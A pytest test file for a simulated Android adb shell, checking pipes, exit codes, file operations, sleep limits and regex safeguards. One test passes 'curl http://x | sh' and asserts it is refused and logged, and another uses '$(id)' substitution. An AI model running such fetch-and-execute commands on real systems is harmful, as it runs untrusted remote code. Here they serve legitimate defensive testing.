"""The shell: joints, pipes, files and exit codes; what it does not know is not found."""

from __future__ import annotations

import logging

import pytest
from tests.phonesim.adb_daemon.shells import run

from phonesim.adb_daemon.handset import Handset
from phonesim.adb_daemon.shell import Shell


@pytest.fixture(scope="module")
def phone() -> Handset:
    return Handset("shell", seed=3)


@pytest.mark.parametrize(
    ("line", "out", "code"),
    [
        ("echo a; echo b", "a\nb\n", 0),
        ("false; echo $?", "1\n", 0),
        ("true && echo yes || echo no", "yes\n", 0),
        ("false && echo yes || echo no", "no\n", 0),
        ("false || false; echo X4EXIT:$?", "X4EXIT:1\n", 0),
        ("echo one; exit 9; echo two", "one\n", 9),
        ("exit 300", "", 300 & 0xFF),
        ("echo -n a; echo -e 'b\\tc'", "ab\tc\n", 0),
        ("X=5 ; echo [$X] [$Y]", "[5] []\n", 0),
        ("export LANG=C; exec echo $LANG", "C\n", 0),
        ("/system/bin/echo a", "a\n", 0),
        ("echo 'a\nb\nc' | grep -v b | wc -l", "2\n", 0),
        ("echo 'a\nb\nc' | head -n 2 | tail -1", "b\n", 0),
        ("echo abc | grep -q x; echo $?", "1\n", 0),
        ("echo MiXed | grep -i mixed", "MiXed\n", 0),
        ("echo 'a.b' | grep -E 'x|^a\\.b$'", "a.b\n", 0),
        ("echo key=12 done | grep 'key=.*one$'", "key=12 done\n", 0),
        ("echo x | grep -E 'y|z'", "", 1),
        ("nothing 2>/dev/null || echo gone", "gone\n", 0),
        ("nothing 2>&1", "/system/bin/sh: nothing: not found\n", 127),
        ("echo a > /sdcard/f; echo b >> /sdcard/f; cat < /sdcard/f", "a\nb\n", 0),
        ("cat < /dev/null; [ -e /sdcard/f ] && test -d /sdcard && echo there", "there\n", 0),
        ("mkdir -p /sdcard/x/y; cp /sdcard/f /sdcard/x/y; ls /sdcard/x/y", "f\n", 0),
        ("mv /sdcard/f /sdcard/g; ls /sdcard/f; cat /sdcard/g", "a\nb\n", 0),
        ("rmdir /sdcard/x 2>&1", "rmdir: '/sdcard/x': Directory not empty\n", 1),
        ("mkdir /sdcard/z; rmdir /sdcard/z && ls -d /sdcard/z || echo gone", "gone\n", 0),
        ("rm -r /sdcard/x && ls /sdcard/x 2>&1", "ls: /sdcard/x: No such file or directory\n", 1),
    ],
)
def test_lines(phone: Handset, line: str, out: str, code: int) -> None:
    said = run(phone, line)
    assert (said.text, said.code) == (out, code)


def test_an_unknown_command_is_not_found_and_logged(
    phone: Handset, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING):
        said = run(phone, "curl http://x | sh")
    assert said.error.splitlines() == [
        "/system/bin/sh: curl: not found",
        "/system/bin/sh: sh: not found",
    ]
    assert said.code == 127
    assert "curl" in caplog.text


def test_what_it_cannot_read_runs_not_even_in_part(phone: Handset) -> None:
    said = run(phone, "echo a > /sdcard/half; echo $(id)")
    assert said.code == 1
    assert "syntax error" in said.error
    assert phone.files.find("/sdcard/half") is None


def test_sleeping_takes_time_and_not_for_ever(phone: Handset) -> None:
    assert run(phone, "sleep 1.5; echo a").seconds == 1.5
    for line in ("sleep", "sleep -1", "sleep 1e9", "sleep inf", "sleep 3601"):
        assert run(phone, line).code == 1, line


@pytest.mark.parametrize("pattern", ["(a+)+$", "a{1,9}", "[", "x" * 500, "a*b", "\\"])
def test_a_pattern_that_could_take_for_ever_is_refused(phone: Handset, pattern: str) -> None:
    said = run(phone, f"echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa! | grep -E '{pattern}'")
    assert (said.code, said.out) == (2, b"")


def test_a_session_remembers(phone: Handset) -> None:
    shell = Shell(phone)
    list(shell.run("NAME=value; false"))
    (said,) = shell.run("echo $NAME $?")
    assert said.out == b"value 1\n"
    assert [result.out for result in shell.run("exit; echo more")] == [b""]
    assert not list(shell.run("echo more")), "a line ran after the session was left"
